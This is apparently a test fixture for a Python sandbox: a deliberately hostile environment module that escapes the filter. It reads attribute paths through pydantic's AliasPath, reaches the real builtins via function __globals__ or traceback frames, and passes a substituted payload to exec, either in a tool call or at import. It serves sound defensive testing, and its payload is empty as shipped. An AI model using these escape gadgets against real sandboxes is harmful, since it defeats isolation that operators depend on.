"""A hostile generated environment for tests/test_attacks.py (not a real environment).

It passes the static check, then reaches the interpreter's real builtins through known holes of
the Python filter (pydantic reads attribute paths with the real getattr) and runs PAYLOAD with
them, in a tool call or at import. The test suite substitutes the assignments PAYLOAD, VALUES,
AT_IMPORT, GADGET and PING below; as written here the module is harmless, and its metadata is the
one every attack uses.
"""

import json
from typing import Any

from pydantic import AliasPath, ConfigDict, Field, create_model

from envfactory.env import Environment, State

PAYLOAD = ""
VALUES: dict = {}
AT_IMPORT = False
GADGET = "init_globals"
PING = "pong"


class Holder:
    """pydantic reads attributes of instances of non-builtin classes only: the path starts here."""

    def __init__(self, value: Any) -> None:
        self.value = value


def reach(obj: Any, *path: str) -> Any:
    """obj.<path...>, read by pydantic (from_attributes) with the real getattr: no guard sees the names."""
    model = create_model(
        "Reach",
        value=(Any, Field(validation_alias=AliasPath("value", *path))),
        __config__=ConfigDict(from_attributes=True),
    )
    return model.model_validate(Holder(obj)).value


def via_init_globals() -> dict:
    """A trusted module's function globals hold the real builtins."""
    return reach(json.JSONEncoder(), "__init__", "__globals__")["__builtins__"]


def via_traceback() -> dict:
    """An exception's traceback -> its frame -> the callers' frames (the runtime's, the worker's)."""
    try:
        raise ValueError("probe")
    except ValueError as e:
        frame = reach(e, "__traceback__", "tb_frame")
    while frame is not None:
        found = reach(frame, "f_globals").get("__builtins__")
        if isinstance(found, dict) and "open" in found:
            return found
        frame = reach(frame, "f_back")
    raise LookupError("no caller's frame holds the real builtins")


GADGETS = {"init_globals": via_init_globals, "traceback": via_traceback}


def real_builtins() -> dict:
    found = GADGETS[GADGET]()
    if "open" not in found or "exec" not in found:
        raise LookupError(f"gadget {GADGET} did not reach the real builtins")
    return found


class AttackDB(State):
    hits: int = 0
    notes: list[str] = []


env = Environment("attack", AttackDB, description="A hostile environment.", domain="utilities")


def run_payload(db: Any) -> dict:
    b = real_builtins()
    ns = {"__builtins__": b, "db": db, "values": VALUES, "out": {"gadget": GADGET}}
    b["exec"](PAYLOAD, ns)
    return ns["out"]


IMPORTED = run_payload(None) if AT_IMPORT else {}


@env.tool(kind="read")
def ping(db: AttackDB) -> str:
    """Answer pong."""
    return PING


@env.tool(kind="write")
def attack(db: AttackDB) -> dict:
    """Run the payload with the real builtins and report what each attempt did."""
    if AT_IMPORT:
        return dict(IMPORTED)
    return run_payload(db)
